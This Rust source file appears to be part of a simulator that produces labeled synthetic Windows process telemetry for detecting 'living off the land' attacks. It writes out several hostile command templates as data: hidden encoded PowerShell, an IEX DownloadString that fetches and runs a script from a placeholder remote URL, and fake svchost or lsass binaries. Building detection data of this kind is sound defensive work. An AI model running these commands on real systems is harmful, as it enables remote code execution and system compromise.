//! Attack scenarios: a malicious root process under an ordinary parent (explorer, Office,
//! wmiprvse, services, the task scheduler, w3wp), then a short burst of children.
//!
//! Attacks run on the same hosts, as the same users, under the same parent images as the
//! benign activity; what differs is the combination and the command lines.

use super::config::{AttackFamily, Role};
use super::fill::{obfuscate, Obfuscation};
use super::sim::{Sim, CMD, OFFICE, PS, S32};
use super::templates::{system_path, AttackTemplate, Slot};
use super::world::{Il, Sig, Spawn, Truth, NETWORK_SERVICE, SYSTEM};
use lotl_events::Label;
use std::sync::Arc;

fn with_tech(t: &Truth, tech: &str) -> Truth {
    Truth {
        technique: Some(Arc::from(tech)),
        ..t.clone()
    }
}

impl Sim<'_> {
    fn template(&mut self, slot: Slot) -> AttackTemplate {
        let refs = self.bank.get_reference(slot);
        let ts = if !refs.is_empty() && self.chance(0.5) {
            refs
        } else {
            self.bank.get(slot)
        };
        if ts.is_empty() {
            return AttackTemplate {
                exe: format!("{S32}whoami.exe"),
                cmd: "whoami".into(),
                technique: "T1033".into(),
            };
        }
        ts[self.d.rng_index(ts.len())].clone()
    }

    fn maybe_obfuscate(&mut self, cmd: String) -> String {
        if !self.chance(self.p.obfuscation_rate) {
            return cmd;
        }
        let style = [
            Obfuscation::Carets,
            Obfuscation::Case,
            Obfuscation::EnvVars,
            Obfuscation::Quotes,
        ][self.d.rng_index(4)];
        obfuscate(&cmd, style, &mut self.d.rng)
    }

    /// Spawn a template's process, resolving its image from the filled command line when
    /// the template leaves it open.
    fn spawn_template(
        &mut self,
        parent: usize,
        t: i64,
        tpl: &AttackTemplate,
        user: usize,
        il: Il,
        truth: &Truth,
    ) -> usize {
        let cmd = self.fill(&tpl.cmd, user);
        let exe = if tpl.exe.is_empty() {
            let first = lotl_events::event::split_command_line(&cmd)
                .into_iter()
                .next()
                .unwrap_or_default();
            if first.contains('\\') {
                first.into()
            } else {
                system_path(&first)
            }
        } else {
            tpl.exe.clone()
        };
        let cmd = self.maybe_obfuscate(cmd);
        let tr = with_tech(truth, &tpl.technique);
        self.d.spawn(
            parent,
            t,
            Spawn {
                exe: &exe,
                cmd,
                user,
                il,
                sig: Sig::Auto,
                orig: None,
            },
            &tr,
        )
    }

    /// The victim user and an ordinary parent process on this host.
    fn foothold(&mut self, t: i64) -> (usize, usize, Il) {
        if let Some(s) = (!self.sessions.is_empty()).then(|| self.d.rng_index(self.sessions.len()))
        {
            let sess = &self.sessions[s];
            let (user, explorer, il) = (
                sess.user,
                sess.explorer,
                if sess.admin { Il::High } else { Il::Medium },
            );
            let (outlook, office) = (sess.outlook, sess.winword.or(sess.excel));
            let parent = match self.range(0, 4) {
                0 => outlook.unwrap_or(explorer),
                1 => office.unwrap_or(explorer),
                _ => explorer,
            };
            let _ = t;
            (parent, user, il)
        } else {
            match self.range(0, 2) {
                0 => (self.sys.wmiprvse, SYSTEM, Il::System),
                1 => (self.sys.svc_schedule, SYSTEM, Il::System),
                _ => match self.sys.w3wp {
                    Some(w) => (w, NETWORK_SERVICE, Il::High),
                    None => (self.sys.services, SYSTEM, Il::System),
                },
            }
        }
    }

    /// A shell the attacker drives: cmd or powershell, often encoded.
    fn attacker_shell(
        &mut self,
        parent: usize,
        t: i64,
        user: usize,
        il: Il,
        truth: &Truth,
    ) -> usize {
        let (exe, cmd, tech) = match self.range(0, 3) {
            0 => (PS, format!("powershell.exe -nop -w hidden -enc {}", self.fill("{B64}", user)), "T1059.001"),
            1 => (PS, format!(r#""{PS}" -ExecutionPolicy Bypass -NoProfile -c "{}""#, self.fill("IEX (New-Object Net.WebClient).DownloadString('{REMOTEURL:.ps1}')", user)), "T1059.001"),
            2 => (CMD, r"C:\Windows\system32\cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1698776542.77 2>&1".to_owned(), "T1059.003"),
            _ => (CMD, format!(r#"cmd.exe /c "{}""#, self.fill(r"{TEMP}\{WORD}.bat", user)), "T1059.003"),
        };
        let cmd = self.maybe_obfuscate(cmd);
        let tr = with_tech(truth, tech);
        let ix = self.d.spawn(
            parent,
            t,
            Spawn {
                exe,
                cmd,
                user,
                il,
                sig: Sig::Auto,
                orig: None,
            },
            &tr,
        );
        if self.chance(0.6) {
            self.inherit(
                ix,
                t + 4,
                &format!("{S32}conhost.exe"),
                r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1".into(),
                &tr,
            );
        }
        ix
    }

    /// A burst of `n` children from `slot` under `parent`, seconds apart.
    fn burst(&mut self, parent: usize, t: i64, slot: Slot, n: u32, truth: &Truth) -> i64 {
        let (user, il) = (self.d.procs[parent].user, self.d.procs[parent].il);
        let mut tt = t;
        for _ in 0..n {
            tt += self.range(300, 12_000) as i64;
            let tpl = self.template(slot);
            self.spawn_template(parent, tt, &tpl, user, il, truth);
        }
        tt
    }

    pub fn attack(&mut self, fam: AttackFamily) {
        let truth = self.new_truth(Label::Malicious, fam.as_str(), None);
        let t = if self.chance(0.75) {
            self.work_time()
        } else {
            self.any_time()
        };
        let (parent, user, il) = self.foothold(t);
        match fam {
            AttackFamily::ProxyExecution => {
                let tpl = self.template(Slot::Proxy);
                let root = self.spawn_template(parent, t, &tpl, user, il, &truth);
                if self.chance(0.6) {
                    let sh = self.attacker_shell(root, t + 2_000, user, il, &truth);
                    let n = self.range(1, 5);
                    self.burst(sh, t + 3_000, Slot::Discovery, n, &truth);
                } else {
                    let n = self.range(1, 3);
                    self.burst(root, t + 1_000, Slot::Proxy, n, &truth);
                }
            }
            AttackFamily::Masquerading => {
                let (exe, orig, sig) = match self.range(0, 5) {
                    0 => (
                        r"C:\Users\Public\svchost.exe".to_owned(),
                        Some("svchost.exe"),
                        Sig::Unsigned,
                    ),
                    1 => (
                        r"C:\Windows\Temp\lsass.exe".to_owned(),
                        Some("lsass.exe"),
                        Sig::Unsigned,
                    ),
                    2 => (
                        r"C:\Windows\SysWOW64\scvhost.exe".to_owned(),
                        None,
                        Sig::Unsigned,
                    ),
                    3 => (
                        format!(
                            r"C:\ProgramData\Microsoft\{}\svch0st.exe",
                            self.fill("{WORD}", user)
                        ),
                        None,
                        Sig::Unsigned,
                    ),
                    4 => (
                        r"C:\ProgramData\Intel\igfxupd.exe".to_owned(),
                        Some("psexec.c"),
                        Sig::Signed("Microsoft Corporation"),
                    ),
                    _ => (
                        format!(
                            r"C:\Users\{}\AppData\Roaming\Microsoft\Windows\taskhost.exe",
                            self.d.fleet.users[user].name
                        ),
                        Some("PowerShell.EXE"),
                        Sig::Signed("Microsoft Windows"),
                    ),
                };
                let parent = if self.chance(0.3) {
                    self.sys.services
                } else {
                    parent
                };
                let (user, il) = if parent == self.sys.services {
                    (SYSTEM, Il::System)
                } else {
                    (user, il)
                };
                let tr = with_tech(
                    &truth,
                    if orig.is_some()
                        && !exe.ends_with("svchost.exe")
                        && !exe.ends_with("lsass.exe")
                    {
                        "T1036.003"
                    } else {
                        "T1036.005"
                    },
                );
                let root = self.d.spawn(
                    parent,
                    t,
                    Spawn {
                        exe: &exe,
                        cmd: format!("\"{exe}\" "),
                        user,
                        il,
                        sig,
                        orig,
                    },
                    &tr,
                );
                let n = self.range(2, 8);
                let sh = self.attacker_shell(root, t + 1_500, user, il, &truth);
                self.burst(sh, t + 2_000, Slot::Discovery, n, &truth);
            }
            AttackFamily::OfficeMacro => {
                let office = match self.sessions.first().and_then(|s| s.winword.or(s.excel)) {
                    Some(o) => o,
                    None => {
                        let (app, ext) = if self.chance(0.5) {
                            ("WINWORD.EXE", "docm")
                        } else {
                            ("EXCEL.EXE", "xlsm")
                        };
                        let bg = self.bg.clone();
                        let doc = self.fill(
                            &format!(r"C:\Users\{{USER}}\Downloads\{{WORD}}.{ext}"),
                            user,
                        );
                        self.sp(
                            parent,
                            t - 30_000,
                            &format!("{OFFICE}{app}"),
                            format!(r#""{OFFICE}{app}" /n "{doc}""#),
                            user,
                            Il::Medium,
                            &bg,
                        )
                    }
                };
                let user = self.d.procs[office].user;
                let via_cmd = self.chance(0.6);
                let ps_parent = if via_cmd {
                    let b = self.fill("{B64}", user);
                    let c = self
                        .maybe_obfuscate(format!("cmd.exe /c powershell -nop -w hidden -enc {b}"));
                    self.d.spawn(
                        office,
                        t,
                        Spawn {
                            exe: CMD,
                            cmd: c,
                            user,
                            il: Il::Medium,
                            sig: Sig::Auto,
                            orig: None,
                        },
                        &with_tech(&truth, "T1204.002"),
                    )
                } else {
                    office
                };
                let ps = self.attacker_shell(
                    ps_parent,
                    t + 500,
                    user,
                    Il::Medium,
                    &with_tech(&truth, "T1059.001"),
                );
                let n = self.range(2, 6);
                let end = self.burst(ps, t + 1_000, Slot::Discovery, n, &truth);
                if self.chance(0.5) {
                    let tpl = self.template(Slot::Proxy);
                    self.spawn_template(ps, end + 2_000, &tpl, user, Il::Medium, &truth);
                }
            }
            AttackFamily::Wmi => {
                let wmi = self.sys.wmiprvse;
                let admins = self.d.host.admins.clone();
                let (user, il) = if self.chance(0.6) {
                    (admins[self.d.rng_index(admins.len())], Il::High)
                } else {
                    (SYSTEM, Il::System)
                };
                let sh = self.attacker_shell(wmi, t, user, il, &with_tech(&truth, "T1047"));
                let n = self.range(2, 8);
                self.burst(sh, t + 800, Slot::Discovery, n, &truth);
            }
            AttackFamily::ScriptHost => {
                let tpl = self.template(Slot::ScriptHost);
                let root = self.spawn_template(parent, t, &tpl, user, il, &truth);
                let sh = self.attacker_shell(root, t + 1_200, user, il, &truth);
                let n = self.range(1, 5);
                let end = self.burst(sh, t + 2_000, Slot::Discovery, n, &truth);
                if self.chance(0.4) {
                    let tpl = self.template(Slot::Persistence);
                    self.spawn_template(sh, end + 1_000, &tpl, user, il, &truth);
                }
            }
            AttackFamily::CredentialDumping => {
                let (parent, user) = self.elevated_foothold(t, parent, user);
                let sh = self.attacker_shell(parent, t, user, Il::High, &truth);
                let n = self.range(1, 4);
                self.burst(sh, t + 1_000, Slot::Credential, n, &truth);
            }
            AttackFamily::Discovery => {
                let sh = self.attacker_shell(parent, t, user, il, &truth);
                let n = self.range(5, 15);
                self.burst(sh, t + 1_000, Slot::Discovery, n, &truth);
            }
            AttackFamily::Persistence => {
                let sh = self.attacker_shell(parent, t, user, il, &truth);
                let n = self.range(1, 4);
                self.burst(sh, t + 1_000, Slot::Persistence, n, &truth);
            }
            AttackFamily::LateralMovement => {
                if self.chance(0.5) {
                    let (parent, user) = self.elevated_foothold(t, parent, user);
                    let sh = self.attacker_shell(parent, t, user, Il::High, &truth);
                    let n = self.range(1, 4);
                    self.burst(sh, t + 1_000, Slot::Lateral, n, &truth);
                } else {
                    // The receiving side: a service or WMI provider starting the operator's shell.
                    let admins = self.d.host.admins.clone();
                    let a = admins[self.d.rng_index(admins.len())];
                    let root = if self.chance(0.5) {
                        let services = self.sys.services;
                        let name = self.fill("{WORD}", a);
                        let exe = format!(r"C:\Windows\{name}.exe");
                        self.d.spawn(
                            services,
                            t,
                            Spawn {
                                exe: &exe,
                                cmd: exe.clone(),
                                user: SYSTEM,
                                il: Il::System,
                                sig: Sig::Unsigned,
                                orig: None,
                            },
                            &with_tech(&truth, "T1569.002"),
                        )
                    } else {
                        self.sys.wmiprvse
                    };
                    let sh = self.attacker_shell(
                        root,
                        t + 500,
                        a,
                        Il::High,
                        &with_tech(&truth, "T1021.006"),
                    );
                    let n = self.range(2, 6);
                    self.burst(sh, t + 1_500, Slot::Discovery, n, &truth);
                }
            }
        }
    }

    /// An admin's elevated context: their explorer on servers, else the victim's with a
    /// UAC prompt, else the task scheduler.
    fn elevated_foothold(&mut self, t: i64, parent: usize, user: usize) -> (usize, usize) {
        if matches!(self.d.host.role, Role::Server | Role::DomainController) || self.chance(0.3) {
            let s = self.admin_session(t);
            return (self.sessions[s].explorer, self.sessions[s].user);
        }
        (parent, user)
    }
}
